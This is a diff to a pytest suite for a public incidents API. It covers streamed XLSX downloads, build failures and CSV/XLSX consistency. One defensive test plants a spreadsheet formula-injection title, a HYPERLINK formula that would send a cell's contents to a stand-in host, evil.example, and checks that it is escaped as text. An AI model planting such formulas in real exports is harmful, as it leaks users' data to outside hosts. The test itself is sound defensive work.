@@ -209,11 +209,11 @@ def test_a_failed_build_leaves_the_last_build_served(plain_client, three, downlo
     first = downloads.build_full()
     before = _get(plain_client, "json").data
 
-    def broken(records, out):
-        out.write(b"half a file")
+    def broken(records):
+        yield b"half a file"
         raise RuntimeError("disk full")
 
-    monkeypatch.setattr(downloads.formats, "xlsx_write", broken)
+    monkeypatch.setitem(downloads.formats.DOWNLOADS, "xlsx", (broken, "application/octet-stream"))
     with pytest.raises(RuntimeError):
         downloads.build_full()
     assert downloads.ready().id == first
@@ -313,7 +313,7 @@ def test_the_data_package_describes_every_cell_of_the_public_csv(plain_client, p
 
 
 @pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
-@pytest.mark.parametrize("fmt", [f for f in downloads.FORMATS if f != "xlsx"])
+@pytest.mark.parametrize("fmt", downloads.FORMATS)
 def test_a_streamed_download_read_in_another_context_or_dropped_leaves_no_context_behind(client, three, fmt):
     """A server may read a streamed body in another context than the request's, and a visitor
     may leave mid-file: the generator's own application context is entered and left for each
@@ -326,6 +326,8 @@ def test_a_streamed_download_read_in_another_context_or_dropped_leaves_no_contex
     body = whole.get_data()
     if fmt == "csv":
         assert body.decode("utf-8-sig").count("YE-") >= queries.count({"country": ["YE"]})
+    elif fmt == "xlsx":
+        assert len(_content(fmt, body)) >= queries.count({"country": ["YE"]})
     else:
         json.loads(body)
     dropped = client.get(url)  # left after the first piece
@@ -351,3 +353,78 @@ def test_a_streamed_download_only_reads(plain_client, three, monkeypatch):
     monkeypatch.setattr(queries, "iter_records", watched)
     assert plain_client.get("/api/public/v1/incidents.csv?country=YE").get_data()
     assert seen == [False]
+
+
+# --- XLSX streamed as its records are read ---------------------------------------------------
+
+FILTERED = "year_from=2000"
+
+
+def test_a_filtered_xlsx_download_comes_in_pieces_as_its_records_are_read(plain_client, three, monkeypatch):
+    """The first bytes leave before any record is read, and more follow while the records are
+    still being read (keyset chunks of 100 here): the workbook is never whole in the request."""
+    with transaction():
+        demo.load(1200, seed=5)
+    total = queries.count({"year_from": 2000})
+    read = []
+    records = queries.iter_records
+
+    def watched(filters, **kw):
+        for record in records(filters, chunk=100):
+            read.append(record["public_ref"])
+            yield record
+
+    monkeypatch.setattr(queries, "iter_records", watched)
+    response = plain_client.get(f"/api/public/v1/incidents.xlsx?{FILTERED}", buffered=False)
+    assert response.status_code == 200 and response.is_streamed and read == []
+    pieces = iter(response.response)
+    assert next(pieces).startswith(b"PK") and read == []
+    arrived = [len(read) for _piece in pieces]
+    response.close()
+    assert len(read) == total > 800
+    assert len(arrived) >= 2 and arrived[0] < total
+
+
+def _csv_table(client, query: str) -> list[list[str]]:
+    body = client.get(f"/api/public/v1/incidents.csv?{query}").data.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(body)))
+
+
+def _as_csv_cell(value) -> str:
+    if value is None:
+        return ""
+    return value if isinstance(value, str) else repr(value)
+
+
+def test_a_filtered_xlsx_holds_exactly_the_csv_rows(plain_client, three):
+    from openpyxl import load_workbook
+
+    with transaction():
+        demo.load(60, seed=7)
+    table = _csv_table(plain_client, FILTERED)
+    body = plain_client.get(f"/api/public/v1/incidents.xlsx?{FILTERED}").data
+    for read_only in (True, False):
+        sheet = load_workbook(io.BytesIO(body), read_only=read_only).worksheets[0]
+        rows = [[_as_csv_cell(value) for value in row] for row in sheet.iter_rows(values_only=True)]
+        assert rows == table and len(rows) > 20
+    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+    assert sheet.sheet_view.rightToLeft and sheet.title == "incidents"
+    header = [cell.value for cell in sheet[1]]
+    numbers = {header[cell.column - 1] for row in sheet.iter_rows(min_row=2) for cell in row
+               if cell.value is not None and cell.data_type == "n"}  # fmt: skip
+    assert {"latitude", "longitude"} <= numbers <= {"latitude", "longitude", "unnamed_victims"}
+    titles = {cell.value for cell in sheet["B"]}
+    assert any(title and "\u0600" <= title[0] <= "\u06ff" for title in titles)  # Arabic text as it is
+
+
+def test_a_formula_looking_title_stays_text_in_the_xlsx(plain_client):
+    link = '=HYPERLINK("https://evil.example/?"&A2, "open")'
+    _public(title_en=link, title_ar="@x", summary_en="+1", summary_ar="-2+3")
+    from openpyxl import load_workbook
+
+    body = plain_client.get(f"/api/public/v1/incidents.xlsx?{FILTERED}").data
+    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value}
+    assert not [value for value, kind in cells.items() if kind == "f"]
+    for text in ("'" + link, "'@x", "+1", "'-2+3"):  # as in the CSV (spreadsheet.safe_text)
+        assert cells[text] == "s", text
